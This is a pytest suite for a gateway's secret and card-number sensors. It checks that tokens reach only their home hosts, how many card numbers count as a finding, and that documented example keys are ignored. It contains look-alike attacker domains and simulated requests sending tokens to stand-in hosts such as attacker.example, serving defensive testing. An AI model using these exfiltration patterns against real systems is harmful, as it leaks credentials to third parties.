"""Ready sensors at the gateway: where secrets are at home, how many matches are a finding, and what never counts."""

import json
import random
import zlib

import pytest

from gateway import body_of
from net import OTHER, POD_DH157, POD_OTHER, SECOND
from peers import Origin
from test_tls import connect, https
from tlspeers import Authority, over_tls
from wire import read_response, request, send

GITHUB = OTHER
ELSEWHERE = SECOND

CONFIG = """
sensors:
  - {name: many-cards, detectors: [cards], at_least: 4, distinct: 3}
  - {name: other-secrets, detectors: [secrets], allow: ['npm_*']}
services:
  - {name: myapp.default, mode: protect, sensors: {secrets: deny}, rules: [{to: any, action: allow}]}
  - {name: dh157.default, mode: monitor, sensors: {secrets: deny}, rules: [{to: any, action: allow}]}
  - {name: other.default, mode: protect, sensors: {many-cards: deny, other-secrets: deny}, rules: [{to: any, action: allow}]}
"""


def checked(prefix, seed=1):
    """A token with the checksum that GitHub and npm give theirs."""
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    body = "".join(random.Random(seed).choices(letters, k=30))
    rest, sum_ = "", zlib.crc32(body.encode())
    for _ in range(6):
        sum_, digit = divmod(sum_, 62)
        rest = letters[digit] + rest
    return prefix + body + rest


TOKEN = checked("ghp_")
NPM = checked("npm_")
AWS = "AKIA" + "OMVOM35U2HD2RYLF"

HOMES = ["api.github.com", "github.com", "API.GitHub.com", "api.github.com.", "a.b.github.com", "api.github.com:80"]
OTHERS = [
    "attacker.example", "evilapi-github.com", "api-github.com", "evilgithub.com", "github.com.evil.example",
    "api.github.com.evil.example", "api.github.co", "github.community", "com", "githubusercontent.com.example",
    "api.github.com-evil.example", "xn--github-.com",
]


@pytest.fixture(scope="session")
def outside(tmp_path_factory):
    return Authority(tmp_path_factory.mktemp("outside"))


@pytest.fixture(scope="module")
def gateway(shared, outside):
    return shared(CONFIG + f'tls: {{trust: "{outside.certificate}"}}\n')


@pytest.fixture
def names(gateway, resolver):
    """All homes are at one address, all others at another."""
    for name in HOMES:
        resolver.names[name.lower().removesuffix(":80").rstrip(".")] = [GITHUB]
    for name in OTHERS:
        resolver.names[name] = [ELSEWHERE]
    return resolver.names


def carrying(token, host, where):
    if where == "url":
        return request(path=f"/?access_token={token}", host=host)
    if where == "header":
        return request(host=host, fields=[f"Authorization: Bearer {token}"])
    return request("POST", host=host, body=f'{{"token": "{token}"}}'.encode())


@pytest.mark.parametrize("where", ["url", "header", "body"])
@pytest.mark.parametrize("host", HOMES)
def test_a_token_may_go_home(world, gateway, names, host, where):
    with Origin(world, 80, GITHUB) as origin:
        with send(world, carrying(TOKEN, host, where), address=GITHUB, port=80) as sock:
            assert read_response(sock)[0] == 200
            session = gateway.session_of(sock)
        assert TOKEN.encode() in origin.received
    assert session["action"] == "allow" and session["findings"] == []


@pytest.mark.parametrize("where", ["url", "header", "body"])
@pytest.mark.parametrize("host", OTHERS)
def test_and_nowhere_else(world, gateway, names, host, where):
    with Origin(world, 80, ELSEWHERE) as origin:
        with send(world, carrying(TOKEN, host, where), address=ELSEWHERE, port=80) as sock:
            status, _, problem, _ = read_response(sock)
            event = gateway.event_of(sock)
        assert status == 403 and json.loads(problem)["reason"] == "finding"
        assert origin.received == b""
    finding = event["finding"]
    assert (finding["sensor"], finding["rule"], finding["confidence"]) == ("secrets", "github-token", "high")
    assert TOKEN not in json.dumps(event)


def test_a_secret_of_another_is_not_at_home_there(world, gateway, names):
    with Origin(world, 80, GITHUB) as origin:
        with send(world, carrying(AWS, "api.github.com", "body"), address=GITHUB, port=80) as sock:
            assert read_response(sock)[0] == 403
        assert origin.received == b""


def test_monitor_tells_of_what_leaves_home(world, gateway, names):
    with Origin(world, 80, GITHUB), Origin(world, 80, ELSEWHERE) as origin:
        for host, address in [("api.github.com", GITHUB), ("api-github.com", ELSEWHERE)]:
            with send(world, carrying(TOKEN, host, "body"), address=address, port=80, source=POD_DH157) as sock:
                assert read_response(sock)[0] == 200
                session = gateway.session_of(sock)
            assert bool(session["findings"]) == (address == ELSEWHERE)
        assert session["action"] == "alert" and session["would"] == "deny"
        assert TOKEN.encode() in origin.received


def test_the_name_alone_opens_no_other_address(world, gateway, names):
    """Who says that an address of their own is GitHub is taken at their word: the token goes to GitHub."""
    with Origin(world, 80, GITHUB) as github, Origin(world, 80, ELSEWHERE) as attacker:
        with send(world, carrying(TOKEN, "api.github.com", "header"), address=ELSEWHERE, port=80) as sock:
            assert read_response(sock)[0] == 200
        assert TOKEN.encode() in github.received
        # An address is nobody's home, nor is a name that nobody knows.
        for host in (ELSEWHERE, GITHUB):
            with send(world, carrying(TOKEN, host, "header"), address=ELSEWHERE, port=80) as sock:
                assert read_response(sock)[0] == 403
        with send(world, carrying(TOKEN, "unknown.github.com", "header"), address=ELSEWHERE, port=80) as sock:
            assert read_response(sock)[0] != 200
        assert attacker.received == b""


def test_what_the_request_line_names_counts(world, gateway, names):
    with Origin(world, 80, ELSEWHERE) as attacker:
        data = request(path=f"http://attacker.example/?token={TOKEN}", host="api.github.com")
        with send(world, data, address=GITHUB, port=80) as sock:
            assert read_response(sock)[0] in (400, 403)
        assert attacker.received == b""


def test_over_tls(world, gateway, names, outside):
    home = outside.server(outside.sign("api.github.com"))
    elsewhere = outside.server(outside.sign("api.github.com.evil.example", "attacker.example"))
    data = json.dumps({"token": TOKEN})
    with Origin(world, 443, GITHUB, handler=over_tls(home)) as github, \
            Origin(world, 443, ELSEWHERE, handler=over_tls(elsewhere)) as attacker:
        for version in ("--http1.1", "--http2"):
            github.forget()
            done = https(world, gateway, "https://api.github.com/user/repos", version, "-d", data)
            assert body_of(done) == (200, "ok\n")
            assert TOKEN.encode() in github.received
            for host in ("api.github.com.evil.example", "attacker.example"):
                done = https(world, gateway, f"https://{host}/", version, "-d", data)
                status, problem = body_of(done)
                assert status == 403 and '"reason":"finding"' in problem
        # The name of the handshake is not whom the request is for.
        with connect(world, gateway, "api.github.com", address=GITHUB) as tls:
            tls.sendall(carrying(TOKEN, "attacker.example", "header"))
            assert read_response(tls)[0] in (403, 421)
        assert TOKEN.encode() not in attacker.received
    assert gateway.events(kind="finding", fqdn="api.github.com.evil.example")
    assert not [e for e in gateway.events(0) if e["kind"] == "finding" and e.get("fqdn") == "api.github.com"
                and e["finding"]["rule"] == "github-token"]


# How many are a finding.

CARDS = ["4111111111111111", "5555555555554444", "378282246310005", "2223003122003222", "30121690374838"]


@pytest.mark.parametrize("numbers, status", [
    ([], 200), (CARDS[:3], 200), (CARDS[:1] * 9, 200), (CARDS[:2] * 9, 200),
    (CARDS[:3] + CARDS[:1], 403), (CARDS[:1] * 9 + CARDS[1:3], 403), (CARDS, 403),
], ids=lambda value: value if isinstance(value, int) else f"{len(value)}-of-{len(set(value))}")
def test_so_many_and_so_many_different_ones_are_a_finding(world, gateway, names, numbers, status):
    body = ("name=x&" + "&".join(f"card={number}" for number in numbers)).encode()
    with Origin(world, 8080) as origin:
        for sent, cut in enumerate((0, 1, len(body) // 2, len(body) - 1), 1):
            data = request("POST", body=body)
            at = len(data) - len(body) + cut
            with send(world, b"", pieces=[data[:at], data[at:]], pause=0.002, source=POD_OTHER) as sock:
                assert read_response(sock)[0] == status
                session = gateway.session_of(sock)
            assert origin.received.count(body) == (sent if status == 200 else 0)
            if status == 403:
                assert origin.received == b""
                finding, = session["findings"]
                assert (finding["sensor"], finding["rule"], finding["context"]) == ("many-cards", "card", "body")
                assert finding["offset"] == body.index(numbers[0].encode())
            else:
                assert session["findings"] == []


# What never counts.

@pytest.mark.parametrize("text, status", [
    (f"token={TOKEN}", 403), (f"token={NPM}", 200), (f"{NPM} {TOKEN}", 403),
    # Amazon's own documentation; the same shape otherwise.
    ("key=AKIA" + "IOSFODNN7EXAMPLE", 200), ("key=" + AWS, 403),
    ("aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY", 200),
])
def test_allowed_values_and_those_of_documentation_never_count(world, gateway, names, text, status):
    with Origin(world, 8080) as origin:
        data = request("POST", body=text.encode())
        with send(world, data, source=POD_OTHER) as sock:
            assert read_response(sock)[0] == status
        assert (text.encode() in origin.received) == (status == 200)
